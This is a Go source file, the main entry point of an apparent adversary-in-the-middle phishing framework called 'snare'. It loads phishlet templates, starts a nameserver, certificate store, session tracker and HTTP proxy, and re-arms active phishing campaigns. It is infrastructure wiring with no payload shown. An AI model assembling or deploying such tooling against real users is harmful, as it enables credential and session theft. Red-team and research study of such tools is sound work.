package main

import (
	"context"
	"flag"
	_log "log"
	"os"
	"os/user"
	"path/filepath"
	"regexp"
	"time"

	"github.com/snarelabs/snare/core"
	"github.com/snarelabs/snare/database"
	"github.com/snarelabs/snare/database/storage"
	"github.com/snarelabs/snare/log"
)

var phishlets_dir = flag.String("p", "", "Phishlets directory path")
var cfg_dir = flag.String("c", "", "Configuration directory path")
var debug_log = flag.Bool("debug", false, "Enable debug output")
var developer_mode = flag.Bool("developer", false, "Enable developer mode (generates self-signed certificates for all hostnames)")
var version_flag = flag.Bool("v", false, "Show version")
var migrate_redis = flag.Bool("migrate-redis", false, "Copy sessions from the embedded database into redis, then exit")

func joinPath(base_path string, rel_path string) string {
	var ret string
	if filepath.IsAbs(rel_path) {
		ret = rel_path
	} else {
		ret = filepath.Join(base_path, rel_path)
	}
	return ret
}

func main() {
	flag.Parse()

	if *version_flag {
		log.Info("version: %s", core.VERSION)
		return
	}

	exe_path, _ := os.Executable()
	exe_dir := filepath.Dir(exe_path)

	core.Banner()

	_log.SetOutput(log.NullLogger().Writer())

	log.DebugEnable(*debug_log)
	if *debug_log {
		log.Info("debug output enabled")
	}

	if *phishlets_dir == "" {
		*phishlets_dir = joinPath(exe_dir, "./phishlets")
	}
	if _, err := os.Stat(*phishlets_dir); os.IsNotExist(err) {
		log.Fatal("provided phishlets directory path does not exist: %s", *phishlets_dir)
		return
	}

	if *cfg_dir == "" {
		usr, err := user.Current()
		if err != nil {
			log.Fatal("%v", err)
			return
		}
		*cfg_dir = filepath.Join(usr.HomeDir, ".snare")
	}
	if err := os.MkdirAll(*cfg_dir, os.FileMode(0700)); err != nil {
		log.Fatal("%v", err)
		return
	}
	log.Info("loading configuration from: %s", *cfg_dir)

	cfg, err := core.NewConfig(*cfg_dir)
	if err != nil {
		log.Fatal("config: %v", err)
		return
	}

	if *migrate_redis {
		rc := cfg.GetRedisConfig()
		if rc.Address == "" {
			log.Fatal("migration: no redis address configured")
			return
		}
		err := storage.MigrateToRedis(context.Background(), &storage.MigrationOptions{
			BuntDBPath: filepath.Join(*cfg_dir, "data.db"),
			Redis: &storage.RedisOptions{
				Addr:     rc.Address,
				Password: rc.Password,
				DB:       rc.DB,
				TTL:      time.Duration(rc.TtlHours) * time.Hour,
			},
		})
		if err != nil {
			log.Fatal("migration: %v", err)
			return
		}
		log.Success("session migration to redis completed")
		return
	}

	var db storage.Storage
	if rc := cfg.GetRedisConfig(); rc.Enabled {
		db, err = storage.NewRedisStorage(&storage.RedisOptions{
			Addr:     rc.Address,
			Password: rc.Password,
			DB:       rc.DB,
			TTL:      time.Duration(rc.TtlHours) * time.Hour,
		})
		if err != nil {
			log.Fatal("redis: %v", err)
			return
		}
		log.Info("session storage: redis at %s", rc.Address)
	} else {
		db, err = database.NewDatabase(filepath.Join(*cfg_dir, "data.db"))
		if err != nil {
			log.Fatal("database: %v", err)
			return
		}
	}
	defer db.Close()

	bl, err := core.NewBlacklist(filepath.Join(*cfg_dir, "blacklist.txt"))
	if err != nil {
		log.Error("blacklist: %s", err)
		return
	}

	log.Info("loading phishlets from: %s", *phishlets_dir)
	files, err := os.ReadDir(*phishlets_dir)
	if err != nil {
		log.Fatal("failed to list phishlets directory '%s': %v", *phishlets_dir, err)
		return
	}
	pr := regexp.MustCompile(`([a-zA-Z0-9\-\.]*)\.yaml`)
	for _, f := range files {
		if f.IsDir() {
			continue
		}
		rpname := pr.FindStringSubmatch(f.Name())
		if rpname == nil || len(rpname) < 2 {
			continue
		}
		pl, err := core.LoadPhishlet(filepath.Join(*phishlets_dir, f.Name()))
		if err != nil {
			log.Error("failed to load phishlet '%s': %v", f.Name(), err)
			continue
		}
		cfg.AddPhishlet(pl)
	}

	ns, _ := core.NewNameserver(cfg)
	ns.Start()

	crt_db, err := core.NewCertDb(joinPath(*cfg_dir, "./crt"), cfg, ns)
	if err != nil {
		log.Fatal("certdb: %v", err)
		return
	}

	ai := core.NewAIClient(cfg.GetAIConfig())
	tracker := core.NewSessionTracker(0, db)
	defer tracker.Stop()

	hp, err := core.NewHttpProxy(cfg.GetServerBindIP(), cfg.GetHttpsPort(), cfg, crt_db, db, bl, ai, tracker, *developer_mode)
	if err != nil {
		log.Fatal("proxy: %v", err)
		return
	}

	// re-arm campaigns that were live before the restart
	for _, cm := range cfg.GetCampaigns() {
		if cm.Active {
			if err := hp.ActivateCampaign(cm); err != nil {
				log.Error("campaign '%s': %v", cm.Id, err)
			}
		}
	}

	if err := hp.Start(); err != nil {
		log.Fatal("proxy: %v", err)
		return
	}

	api := core.NewSnareAPI(cfg, db, hp)
	if err := api.Start(); err != nil {
		log.Warning("api: %v", err)
	}
	defer api.Stop()

	t, err := core.NewTerminal(hp, cfg, crt_db, db, *developer_mode)
	if err != nil {
		log.Fatal("%v", err)
		return
	}

	t.DoWork()
}
